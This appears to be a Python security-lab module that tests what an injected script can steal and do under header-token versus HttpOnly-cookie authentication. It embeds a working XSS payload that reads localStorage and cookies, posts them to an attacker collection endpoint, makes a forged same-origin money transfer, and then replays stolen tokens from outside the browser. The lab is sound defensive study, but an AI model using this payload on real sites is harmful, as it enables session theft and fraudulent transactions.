"""XSS exposure: what a script injected into a page of the app can read and do.

The page is the app's single-page app at the app's origin (see browser.py). A
header-token app keeps its tokens in localStorage, as the article recommends;
a cookie app leaves its credential in an HttpOnly cookie. The injected script
reads localStorage and document.cookie, sends what it found to the attacker's
site, and then uses the app from inside its origin (a /transfer with whatever
CSRF token it can read). The lab then replays the loot from outside the
browser: a stolen token works anywhere until it expires; an HttpOnly cookie
is never in the loot. Either way the script acts as the user while it runs, so
the article's advice trades CSRF for XSS rather than escaping both.
"""

from __future__ import annotations

import json
from typing import Any

import httpx

from authlab.security.browser import AppTab, AttackerSite
from authlab.security.csrf_browser import Accounts, log_in
from authlab.security.fleet import LabServer

XSS_AMOUNT = 13
_PAYLOAD = """
(async () => {
  const loot = {
    local_storage: Object.fromEntries(Object.entries(localStorage)),
    document_cookie: document.cookie,
  };
  try {
    await fetch(%(collect)s, {method: "POST", mode: "no-cors", body: JSON.stringify(loot)});
  } catch (error) { loot.exfiltration_error = String(error); }
  // Ride the user's credential from inside the origin: CSRF checks do not stop this.
  const csrf = (document.cookie.match(/(?:^|; )csrf_token=([^;]*)/) || [])[1];
  const headers = {"content-type": "application/json"};
  if (csrf) headers["x-csrf-token"] = decodeURIComponent(csrf);
  if (loot.local_storage.access_token) {
    headers["authorization"] = "Bearer " + loot.local_storage.access_token;
  }
  const response = await fetch("/transfer", {
    method: "POST", credentials: "same-origin", headers,
    body: JSON.stringify({to: %(attacker)s, amount: %(amount)d}),
  });
  window.__xss = {loot, transfer_status: response.status};
})();
"""


def _cookie_names(document_cookie: str) -> list[str]:
    return sorted(
        part.split("=", 1)[0].strip() for part in document_cookie.split(";") if part.strip()
    )


def run_xss(
    tab: AppTab, server: LabServer, site: AttackerSite, accounts: Accounts
) -> dict[str, Any]:
    config = server.config
    log_in(tab, server, accounts)
    collect_path = f"/collect/{server.name}"
    payload = _PAYLOAD % {
        "collect": json.dumps(f"{site.origin}{collect_path}"),
        "attacker": json.dumps(accounts.attacker),
        "amount": XSS_AMOUNT,
    }
    # Stands for a stored XSS: a script element in the app's page, in the app's origin.
    tab.page.add_script_tag(content=payload)
    tab.page.wait_for_function("window.__xss !== undefined")
    inside: dict[str, Any] = tab.page.evaluate("window.__xss")
    loot: dict[str, Any] = inside["loot"]
    exfiltrated = site.collected(collect_path)
    stolen = json.loads(exfiltrated[-1]) if exfiltrated else {}
    local_storage: dict[str, str] = stolen.get("local_storage", {})
    cookie_names = _cookie_names(stolen.get("document_cookie", ""))
    replay = _replay_elsewhere(server, local_storage, stolen.get("document_cookie", ""))
    credential_cookie_visible = bool(config.cookie_name and config.cookie_name in cookie_names)
    token_exposed = "access_token" in local_storage
    expected_token_exposed = not config.ambient
    return {
        "configuration": server.name,
        "local_storage_keys": sorted(local_storage),
        "document_cookie_names": cookie_names,
        "token_in_local_storage": token_exposed,
        "credential_cookie_visible": credential_cookie_visible,
        "csrf_cookie_visible": "csrf_token" in cookie_names,
        "exfiltrated": bool(exfiltrated),
        "stolen_access_token_me_status": replay.get("me"),
        "stolen_refresh_token_status": replay.get("refresh"),
        "same_origin_transfer_status": inside["transfer_status"],
        "expected_token_exposed": expected_token_exposed,
        "passed": (
            not credential_cookie_visible
            and token_exposed == expected_token_exposed
            and bool(exfiltrated)
            and loot.get("document_cookie", "") == stolen.get("document_cookie", "")
        ),
        "detail": _detail(token_exposed, credential_cookie_visible, replay, inside),
    }


def _replay_elsewhere(
    server: LabServer, local_storage: dict[str, str], document_cookie: str
) -> dict[str, int]:
    """Use the loot from outside the browser, as the attacker would."""
    results: dict[str, int] = {}
    with httpx.Client(base_url=server.base_url, timeout=30) as client:
        token = local_storage.get("access_token")
        if token:
            results["me"] = client.get(
                "/me", headers={"authorization": f"Bearer {token}"}
            ).status_code
        elif document_cookie:
            results["me"] = client.get("/me", headers={"cookie": document_cookie}).status_code
        refresh = local_storage.get("refresh_token")
        if refresh:
            results["refresh"] = client.post(
                "/refresh", json={"refresh_token": refresh}
            ).status_code
    return results


def _detail(
    token_exposed: bool,
    cookie_visible: bool,
    replay: dict[str, int],
    inside: dict[str, Any],
) -> str:
    parts = []
    if token_exposed:
        parts.append(f"token read from localStorage, replayed elsewhere: /me {replay.get('me')}")
        if "refresh" in replay:
            parts.append(f"refresh token too: /refresh {replay['refresh']}")
    elif cookie_visible:
        parts.append("credential cookie readable by script (not HttpOnly)")
    else:
        parts.append(
            f"HttpOnly credential not readable; replaying the loot: /me {replay.get('me')}"
        )
    parts.append(f"the script's own /transfer: {inside['transfer_status']}")
    return "; ".join(parts)
